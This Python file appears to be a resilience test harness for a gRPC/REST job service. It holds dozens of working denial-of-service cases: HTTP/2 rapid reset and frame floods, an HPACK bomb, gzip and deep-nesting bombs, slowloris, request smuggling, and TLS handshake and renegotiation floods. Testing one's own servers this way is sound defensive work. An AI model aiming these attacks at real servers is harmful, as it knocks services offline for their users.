"""What an attacker does. Each case is called again and again until its time is over;
an attack that the server cuts off begins anew with another connection."""

import gzip
import json
import random
import socket
import ssl
import struct
import subprocess
import time

from http2 import *  # the frames are the language of this file

SUBMIT = b"/jobflow.v1.JobService/SubmitJob"
BATCH = b"/jobflow.v1.JobService/BatchSubmitJobs"
STREAM = b"/jobflow.v1.JobService/SubmitJobs"
METRICS = b"/jobflow.v1.MetricsService/StreamMetrics"
LIST = b"/jobflow.v1.JobService/ListJobs"
# Frames or requests of one burst, and how many bursts there are in a second: an
# attacker on the same two cores that sends without a pause measures itself.
BURST, BURSTS = 200, 20
# Made before anything is measured: an attacker that computes takes the machine.
BOMB = gzip.compress(b"\0" * (16 << 20))
JSON_BOMB = gzip.compress(json.dumps({"name": "a", "data": "x" * (8 << 20)}).encode())
CASES = []


def case(run):
    CASES.append((run.__name__.replace("_", " "), run, False))
    return run


def tls_case(run):
    """One against a server that speaks TLS."""
    CASES.append((f"tls: {run.__name__.replace('_', ' ')}", run, True))
    return run


def flood(peer, until, piece):
    """Sends bursts until the time or the patience of the server is over."""
    while time.monotonic() < until:
        peer.sendall(piece() if callable(piece) else piece)
        time.sleep(1 / BURSTS)


def odd(count=BURST, start=1):
    return range(start, start + 2 * count, 2)


def hold(peers, until):
    while time.monotonic() < until:
        time.sleep(0.05)
    for peer in peers:
        peer.close()


def http1(address, text, until, pause=0.0):
    peer = socket.create_connection(address, timeout=2)
    peer.sendall(text)
    if pause:
        hold([peer], min(until, time.monotonic() + pause))
        return
    try:
        while peer.recv(65536):
            pass
    finally:
        peer.close()


def repeat_http1(address, until, text):
    while time.monotonic() < until:
        try:
            http1(address, text, until)
        except OSError:
            pass
        time.sleep(1 / 200)


# --- HTTP/2 ---------------------------------------------------------------------


@case
def rapid_reset(address, until):
    peer, next_id = connect(address), [1]

    def burst():
        ids = odd(start=next_id[0])
        next_id[0] = ids[-1] + 2
        return b"".join(headers(i, SUBMIT) + frame(RST, 0, i, struct.pack(">I", 8)) for i in ids)

    flood(peer, until, burst)


@case
def resets_provoked_by_window_0(address, until):
    peer, next_id = connect(address), [1]

    def burst():
        ids = odd(start=next_id[0])
        next_id[0] = ids[-1] + 2
        return b"".join(headers(i, SUBMIT) + frame(WINDOW, 0, i, b"\0\0\0\0") for i in ids)

    flood(peer, until, burst)


@case
def continuation_without_end(address, until):
    peer = connect(address)
    peer.sendall(frame(HEADERS, 0, 1, request(SUBMIT)))
    flood(peer, until, frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * BURST)


@case
def empty_continuations(address, until):
    peer = connect(address)
    peer.sendall(frame(HEADERS, 0, 1, request(SUBMIT)))
    flood(peer, until, frame(CONTINUATION, 0, 1) * BURST)


@case
def settings_flood(address, until):
    flood(connect(address), until, frame(SETTINGS, payload=struct.pack(">HI", 4, 65535)) * BURST)


@case
def settings_acknowledgement_flood(address, until):
    flood(connect(address), until, frame(SETTINGS, 1) * BURST)


@case
def ping_flood(address, until):
    flood(connect(address), until, frame(PING, payload=b"12345678") * BURST)


@case
def priority_flood(address, until):
    piece = b"".join(frame(PRIORITY, 0, i, struct.pack(">IB", 0, 16)) for i in odd())
    flood(connect(address), until, piece)


@case
def empty_data_flood(address, until):
    peer = connect(address)
    peer.sendall(headers(1, SUBMIT))
    flood(peer, until, frame(DATA, 0, 1) * BURST)


@case
def window_update_flood(address, until):
    flood(connect(address), until, frame(WINDOW, 0, 0, struct.pack(">I", 1)) * BURST)


@case
def window_overflow(address, until):
    flood(connect(address), until, frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1)) * 2)


@case
def unknown_frames(address, until):
    flood(connect(address), until, frame(0xF0, 0xFF, 0, b"x" * 64) * BURST)


@case
def resets_of_idle_streams(address, until):
    flood(connect(address), until, frame(RST, 0, 99, struct.pack(">I", 8)) * BURST)


@case
def data_on_a_closed_stream(address, until):
    flood(connect(address), until, frame(DATA, 0, 7, b"x" * 100) * BURST)


@case
def frame_of_16_mib(address, until):
    peer = connect(address)
    peer.sendall(frame(DATA, 0, 1, length=0xFFFFFF))
    flood(peer, until, b"x" * 16384)


@case
def headers_of_1_mib(address, until):
    peer = connect(address)
    block = request(SUBMIT, more=long_literal(b"x", 1 << 20))
    peer.sendall(frame(HEADERS, 0, 1, block[:16000]))
    for at in range(16000, len(block), 16000):
        peer.sendall(frame(CONTINUATION, 0, 1, block[at : at + 16000]))
    hold([peer], until)


@case
def hpack_bomb(address, until):
    # One entry of 4,000 bytes in the table, named again and again.
    entry = long_literal(b"x", 4000)
    peer = connect(address)
    block = request(SUBMIT) + b"\x40" + entry[1:] + b"\xbe" * 8000
    flood(peer, until, frame(HEADERS, END_HEADERS, 1, block))


@case
def hpack_nonsense(address, until):
    flood(connect(address), until, frame(HEADERS, END_HEADERS, 1, b"\x80\xff\xff\xff\xff\xff\x0f"))


@case
def pseudo_headers_twice_and_missing(address, until):
    peer = connect(address)
    double = frame(HEADERS, END_HEADERS | END_STREAM, 1, literal(b":method", b"POST") * 2)
    upper = frame(HEADERS, END_HEADERS | END_STREAM, 3, request(SUBMIT, more=literal(b"UP", b"x")))
    flood(peer, until, double + upper)


@case
def more_streams_than_allowed(address, until):
    peer, next_id = connect(address), [1]

    def burst():
        ids = odd(start=next_id[0])
        next_id[0] = ids[-1] + 2
        return b"".join(headers(i, METRICS) for i in ids)

    flood(peer, until, burst)


@case
def a_thousand_stalled_streams(address, until):
    # A window of nothing: the server may say nothing, and holds what it would.
    none = struct.pack(">HI", 4, 0)
    peers = [connect(address, settings=none) for _ in range(5)]
    for peer in peers:
        for i in odd(200):
            body = frame(DATA, END_STREAM, i, message(b""))
            peer.sendall(headers(i, METRICS) + body)
    hold(peers, until)


@case
def zero_window_answers(address, until):
    peer = connect(address, settings=struct.pack(">HI", 4, 0))
    for i in odd(200):
        peer.sendall(headers(i, LIST) + frame(DATA, END_STREAM, i, message(b"")))
    hold([peer], until)


@case
def windows_of_one_byte(address, until):
    peer = connect(address, settings=struct.pack(">HI", 4, 1))
    for i in odd(50):
        peer.sendall(headers(i, METRICS) + frame(DATA, END_STREAM, i, message(b"")))
    flood(peer, until, b"".join(frame(WINDOW, 0, i, struct.pack(">I", 1)) for i in odd(50)))


@case
def bodies_that_do_not_come(address, until):
    peer = connect(address)
    peer.sendall(b"".join(headers(i, SUBMIT) for i in odd(250)))
    hold([peer], until)


@case
def goaway_and_on(address, until):
    flood(connect(address), until, frame(GOAWAY, payload=struct.pack(">II", 0, 0)) * BURST)


@case
def preface_and_silence(address, until):
    hold([connect(address) for _ in range(100)], until)


@case
def half_a_preface(address, until):
    peers = [connect(address, greet=False) for _ in range(100)]
    for peer in peers:
        peer.sendall(PREFACE[:5])
    hold(peers, until)


# --- gRPC -----------------------------------------------------------------------


def calls(address, until, path, bodies):
    """Calls with these bodies, as they are, on one connection after another."""
    peer, number = connect(address), 1
    while time.monotonic() < until:
        for body in bodies:
            peer.sendall(headers(number, path))
            for at in range(0, len(body), 16000):
                peer.sendall(frame(DATA, 0, number, body[at : at + 16000]))
            peer.sendall(frame(DATA, END_STREAM, number))
            number += 2
        time.sleep(1 / BURSTS)


@case
def message_of_4_gib_promised(address, until):
    peer = connect(address)
    body = message(b"x", length=0xFFFFFFFF)
    flood(peer, until, b"".join(headers(i, SUBMIT) + frame(DATA, 0, i, body) for i in odd(100)))


@case
def messages_of_16_mib_promised(address, until):
    peer = connect(address)
    body = message(b"x", length=16 << 20)
    for i in odd(250):
        peer.sendall(headers(i, BATCH) + frame(DATA, 0, i, body))
    hold([peer], until)


@case
def gzip_bomb_by_grpc(address, until):
    calls(address, until, SUBMIT, [message(BOMB, flag=1)])


@case
def flags_that_mean_nothing(address, until):
    calls(address, until, SUBMIT, [message(b"\x12\x01k", flag=flag) for flag in range(2, 20)])


@case
def groups_nested_100000_deep(address, until):
    calls(address, until, SUBMIT, [message(b"\xfb\x01" * 30000)])


def calls_in_full(address, until, path, body):
    """One after another, with bodies larger than what a server takes unasked."""
    while time.monotonic() < until:
        call(address, path, body)
        time.sleep(1 / BURSTS)


@case
def empty_jobs_in_a_small_message(address, until):
    calls(address, until, BATCH, [message(b"\x0a\x00" * 32000)])


@case
def eight_million_empty_jobs(address, until):
    calls_in_full(address, until, BATCH, message(b"\x0a\x00" * 8_000_000))


@case
def protobuf_nonsense(address, until):
    dice = random.Random(7)
    calls(address, until, SUBMIT, [message(dice.randbytes(200)) for _ in range(50)])


@case
def filters_of_the_longest_kind(address, until):
    text = b"(" * 2000 + b"queue = a" + b")" * 2000
    field = b"\x0a" + bytes([len(text) % 128 + 128, len(text) // 128]) + text
    calls(address, until, LIST, [message(field)])


@case
def a_million_headers_of_a_job(address, until):
    # Entries of the map, each with an empty name and value.
    calls_in_full(address, until, SUBMIT, message(b"\x12\x01k" + b"\x5a\x00" * 1_000_000))


@case
def five_million_tags_of_a_job(address, until):
    calls_in_full(address, until, SUBMIT, message(b"\x12\x01k" + b"\x82\x01\x00" * 5_000_000))


@case
def the_largest_numbers_there_are(address, until):
    most = b"\xff" * 9 + b"\x01"
    fields = [bytes([number << 3]) + most for number in range(1, 16)]
    bodies = [message(field) for field in fields] + [message(b"".join(fields))]
    for path in (LIST, SUBMIT, METRICS):
        calls(address, min(until, time.monotonic() + 1), path, bodies)


@case
def a_stream_that_drips(address, until):
    peer = connect(address)
    peer.sendall(headers(1, STREAM))
    while time.monotonic() < until:
        peer.sendall(frame(DATA, 0, 1, b"\0"))
        time.sleep(0.2)


@case
def grpc_web_cut_at_every_byte(address, until):
    whole = message(b"\x12\x01k") + message(b"grpc-status:0\r\n", flag=0x80)
    head = b"POST " + SUBMIT + b" HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n"
    for kind in (b"application/grpc-web+proto", b"application/grpc-web-text"):
        for end in range(len(whole) + 1):
            if time.monotonic() >= until:
                return
            length = b"content-length: %d\r\n" % end
            text = head + b"content-type: " + kind + b"\r\n" + length + b"\r\n" + whole[:end]
            try:
                http1(address, text, until)
            except OSError:
                pass


# --- HTTP/1 ---------------------------------------------------------------------

HEAD = b"POST /jobs HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"


@case
def slowloris_heads(address, until):
    peers = [socket.create_connection(address, timeout=5) for _ in range(100)]
    while time.monotonic() < until:
        for peer in peers:
            peer.sendall(b"P" if random.random() < 0.5 else b"O")
        time.sleep(0.5)


@case
def slow_bodies(address, until):
    peers = [socket.create_connection(address, timeout=5) for _ in range(100)]
    for peer in peers:
        peer.sendall(HEAD + b"content-length: 100000\r\n\r\n{")
    hold(peers, until)


@case
def answers_that_are_not_read(address, until):
    peers = [socket.create_connection(address, timeout=5) for _ in range(50)]
    for peer in peers:
        peer.settimeout(0.1)
        try:
            peer.sendall(b"GET /stats HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n" * 500)
        except OSError:
            pass
    hold(peers, until)


@case
def smuggling_by_both_lengths(address, until):
    text = HEAD + b"content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /stats HTTP/1.1\r\n\r\n"
    repeat_http1(address, until, text)


@case
def two_content_lengths(address, until):
    repeat_http1(address, until, HEAD + b"content-length: 2\r\ncontent-length: 3\r\n\r\n{}")


@case
def odd_transfer_encodings(address, until):
    repeat_http1(address, until, HEAD + b"transfer-encoding: xchunked\r\n\r\n0\r\n\r\n")


@case
def chunk_size_overflow(address, until):
    repeat_http1(address, until, HEAD + b"transfer-encoding: chunked\r\n\r\nffffffffffffffffff\r\nx")


@case
def nul_and_folded_headers(address, until):
    repeat_http1(address, until, HEAD + b"x: a\0b\r\n y: folded\r\ncontent-length: 2\r\n\r\n{}")


@case
def a_head_without_end(address, until):
    peer = socket.create_connection(address, timeout=5)
    peer.sendall(HEAD)
    flood(peer, until, b"x: y\r\n" * BURST)


@case
def a_path_of_1_mib(address, until):
    repeat_http1(address, until, b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n")


@case
def json_nested_100000_deep(address, until):
    body = b'{"name":"a","data":' + b"[" * 100000 + b"]" * 100000 + b"}"
    length = b"content-length: %d\r\nconnection: close\r\n\r\n" % len(body)
    repeat_http1(address, until, HEAD + length + body)


@case
def json_of_odd_numbers_and_doubles(address, until):
    body = b'{"name":"a","name":"b","delay":1e999,"priority":-0,"data":"\xff\xfe"}'
    length = b"content-length: %d\r\nconnection: close\r\n\r\n" % len(body)
    repeat_http1(address, until, HEAD + length + body)


@case
def gzip_bomb_by_rest(address, until):
    more = b"content-encoding: gzip\r\ncontent-length: %d\r\nconnection: close\r\n\r\n"
    repeat_http1(address, until, HEAD + more % len(JSON_BOMB) + JSON_BOMB)


@case
def ten_thousand_requests_at_once(address, until):
    peer = socket.create_connection(address, timeout=2)
    while time.monotonic() < until:
        peer.sendall(b"GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n" * 500)
        time.sleep(1 / BURSTS)


@case
def tls_where_none_is_spoken(address, until):
    repeat_http1(address, until, bytes.fromhex("16030100a5010000a10303") + b"\x11" * 160)


# --- TLS ------------------------------------------------------------------------


def hello(name=b"localhost"):
    """What a client says first, as OpenSSL makes it."""
    sent = ssl.MemoryBIO()
    client = trusting_nobody().wrap_bio(ssl.MemoryBIO(), sent, server_hostname=name.decode())
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


def trusting_nobody():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def record(kind, payload, version=0x0303, length=None):
    length = len(payload) if length is None else length
    return struct.pack(">BHH", kind, version, length) + payload


def agreed(address):
    """A connection that has agreed on TLS, and the bytes underneath."""
    peer = socket.create_connection(address, timeout=5)
    safe = trusting_nobody().wrap_socket(peer, server_hostname="localhost")
    return socket.socket(fileno=safe.detach())


def openssl(address, until, letters, *more):
    """Lets OpenSSL say what only it can, a letter a line."""
    words = ["openssl", "s_client", "-connect", "%s:%d" % address, *more]
    pipes = dict.fromkeys(("stdout", "stderr"), subprocess.DEVNULL)
    client = subprocess.Popen(words, stdin=subprocess.PIPE, **pipes)
    try:
        while time.monotonic() < until and client.poll() is None:
            client.stdin.write(letters * 20)
            client.stdin.flush()
            time.sleep(1 / BURSTS)
    finally:
        client.kill()
        client.wait()


@tls_case
def handshakes_that_stall(address, until):
    first = hello()
    peers = [socket.create_connection(address, timeout=5) for _ in range(200)]
    for at, peer in enumerate(peers):
        peer.sendall(first[: at % len(first)])
    hold(peers, until)


@tls_case
def handshakes_byte_by_byte(address, until):
    first = hello()
    peers = [socket.create_connection(address, timeout=5) for _ in range(100)]
    for byte in first:
        if time.monotonic() >= until:
            break
        for peer in peers:
            peer.sendall(bytes([byte]))
        time.sleep(0.1)


@tls_case
def handshakes_begun_and_left(address, until):
    first = hello()
    while time.monotonic() < until:
        for _ in range(10):
            peer = socket.create_connection(address, timeout=2)
            peer.sendall(first)
            peer.close()
        time.sleep(1 / BURSTS)


@tls_case
def handshakes_whole_and_closed(address, until):
    while time.monotonic() < until:
        for _ in range(5):
            agreed(address).close()
        time.sleep(1 / BURSTS)


@tls_case
def a_hello_in_records_of_one_byte(address, until):
    first = hello()[5:]
    text = b"".join(record(22, bytes([byte])) for byte in first)
    repeat_http1(address, until, text)


@tls_case
def a_hello_that_promises_16_mib(address, until):
    peer = socket.create_connection(address, timeout=5)
    peer.sendall(record(22, b"\x01\xff\xff\xff" + b"\x03\x03"))
    flood(peer, until, record(22, b"\0" * 16384))


@tls_case
def records_without_content(address, until):
    peer = socket.create_connection(address, timeout=5)
    flood(peer, until, record(22, b"") * BURST)


@tls_case
def records_of_nonsense(address, until):
    dice = random.Random(9)
    while time.monotonic() < until:
        for kind in (20, 21, 22, 23, 24, 255):
            peer = socket.create_connection(address, timeout=2)
            peer.sendall(record(kind, dice.randbytes(500), length=dice.choice([500, 65535])))
            peer.close()
        time.sleep(1 / BURSTS)


@tls_case
def nonsense_behind_a_handshake(address, until):
    while time.monotonic() < until:
        peer = agreed(address)
        for kind in (22, 23, 24):
            peer.sendall(record(kind, b"x" * 1000))
        peer.close()
        time.sleep(1 / BURSTS)


@tls_case
def a_hello_behind_a_handshake(address, until):
    while time.monotonic() < until:
        peer = agreed(address)
        peer.sendall(hello())
        peer.close()
        time.sleep(1 / BURSTS)


@tls_case
def alerts_without_end(address, until):
    peer = socket.create_connection(address, timeout=5)
    flood(peer, until, record(21, b"\x01\x5a") * BURST)


@tls_case
def renegotiation_without_end(address, until):
    openssl(address, until, b"R\n", "-tls1_2", "-legacy_renegotiation")


@tls_case
def new_keys_without_end(address, until):
    openssl(address, until, b"K\n", "-tls1_3")


@tls_case
def old_versions_and_weak_ciphers(address, until):
    while time.monotonic() < until:
        for version in (0x0300, 0x0301, 0x0302):
            peer = socket.create_connection(address, timeout=2)
            body = struct.pack(">H", version) + b"r" * 32 + b"\0\0\x02\0\x05\x01\0"
            peer.sendall(record(22, b"\x01" + struct.pack(">I", len(body))[1:] + body, 0x0301))
            peer.close()
        time.sleep(1 / BURSTS)


@tls_case
def plain_http_where_tls_is_spoken(address, until):
    repeat_http1(address, until, b"GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n")


@tls_case
def slow_heads_behind_a_handshake(address, until):
    peers = []
    for _ in range(30):
        peer = socket.create_connection(address, timeout=5)
        peers.append(trusting_nobody().wrap_socket(peer, server_hostname="localhost"))
    while time.monotonic() < until:
        for peer in peers:
            peer.sendall(b"P")
        time.sleep(0.5)


# --- Connections ----------------------------------------------------------------


@case
def connections_opened_and_closed(address, until):
    while time.monotonic() < until:
        for _ in range(20):
            socket.create_connection(address, timeout=2).close()
        time.sleep(1 / BURSTS)


@case
def connections_opened_and_reset(address, until):
    while time.monotonic() < until:
        for _ in range(20):
            peer = socket.create_connection(address, timeout=2)
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            peer.close()
        time.sleep(1 / BURSTS)


@case
def two_thousand_idle_connections(address, until):
    peers = []
    for _ in range(2000):
        try:
            peers.append(socket.create_connection(address, timeout=2))
        except OSError:
            break
    hold(peers, until)


@case
def halves_of_connections(address, until):
    peers = []
    for _ in range(100):
        peer = socket.create_connection(address, timeout=2)
        peer.sendall(b"GET /sta")
        peer.shutdown(socket.SHUT_WR)
        peers.append(peer)
    hold(peers, until)
